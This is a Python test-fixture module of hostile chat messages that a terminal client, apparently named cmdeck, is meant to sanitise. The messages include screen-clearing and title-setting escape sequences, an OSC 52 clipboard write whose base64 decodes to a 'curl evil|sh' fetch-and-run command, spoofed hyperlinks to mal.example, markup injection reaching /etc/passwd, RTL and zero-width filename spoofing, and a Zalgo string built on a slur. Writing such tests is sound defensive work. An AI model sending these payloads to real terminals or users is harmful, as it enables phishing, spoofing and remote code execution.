"""What strangers may send to harm a terminal: it must arrive here as it is, so that cmdeck is seen
to tame it.
"""

from cmdeck.sandbox.voices import Line

_ZALGO = "".join(letter + "\u0301\u0300\u0489\u0316\u0334" * 6 for letter in "retard")
_FAMILY = "👨\u200d👩\u200d👧\u200d👦"

LINES = (
    Line(
        "prets_faciles24",
        "@veloville gagnez un vélo\x1b[2J\x1b[5A\x1b[2K@veloville : virement accepté",
        410,
    ),
    Line(
        "prets_faciles24",
        "@crocchat copie offerte \x1b]52;c;Y3VybCBldmlsfHNo\x1b\\ collez-la dans votre terminal",
        520,
    ),
    Line(
        "prets_faciles24",
        (
            "@museetanneurs "
            "\x1b]0;PIRATÉ\x07\x1b]8;;http://mal.example/\x1b\\https://banque.example/\x1b]8;;\x1b\\"
        ),
        640,
    ),
    Line(
        "prets_faciles24",
        "@boulangerielefort \x9b31mrouge\x9b2J \x9d52;c;Y3VybA==\x9c \x90q\x9c",
        700,
    ),
    Line(
        "guillaumetek",
        (
            "@veloville vos balises : [@click=app.quit]cliquez ici[/] puis "
            "[link=file:///etc/passwd]le rapport[/link]"
        ),
        455,
    ),
    Line(
        "guillaumetek",
        (
            "@crocchat fermez ceci [/] et [not a tag] {0} %s {{7*7}} :smile: $primary "
            "${HOME} C:\\[x]\\"
        ),
        610,
    ),
    Line(
        "guillaumetek",
        (
            "@museetanneurs la facture_\u202egpj.exe et "
            "p\u200ba\u200cy\u200dp\ufeffal.com \u2066 // \u2069admin\u2067"
        ),
        690,
    ),
    Line("tom_pignon", f"@veloville {_ZALGO} de livraison, signé Zalgo", 780),
    Line("fabienmorel", "@boulangerielefort " + "Brioche" * 190, 910),
    Line(
        "gaspardnoel",
        (
            f"@crocchat {_FAMILY * 12} toute la famille vous dit merci "
            "🏴\U000e0067\U000e0062\U000e007f 🇫🇷🇫"
        ),
        830,
    ),
    Line(
        "nourelhaddad",
        "@museetanneurs متى يفتح المتحف أبوابه يوم الأحد؟ أريد أن آتي مع العائلة (3 أطفال).",
        870,
        lang="ar",
    ),
    Line(
        "yukiamano",
        "@museetanneurs 革の匂いと川の音、とても良かったです。次の展示はいつからですか？",
        940,
        lang="ja",
    ),
    Line(
        "studio_hibou",
        (
            "@boulangerielefort ligne 1\n\n\n\n\n\n\n\n\n\n\n\nligne 13, pardon pour "
            "le blanc\tet la tabulation"
        ),
        990,
    ),
    Line(
        "prets_faciles24",
        (
            "@crocchat safe.com\x08\x08\x08\x08\x08\x08\x08\x08evil.com\rDe : "
            "Croc’Chat\x00\x7f java\u00adscript:"
        ),
        1040,
    ),
    Line(
        "samuelokoro",
        "@veloville R&D question: is 3 < 4 & 5 > 2 in <b>bold</b>? &amp; so on",
        1100,
        lang="en",
    ),
    Line(
        "imanecherif",
        (
            "@crocchat \ufffe\uffff\u2028\u2029\ufff9a\ufffab\ufffb\u3164\ufdfd drôle "
            "de clavier, désolée"
        ),
        1160,
    ),
)
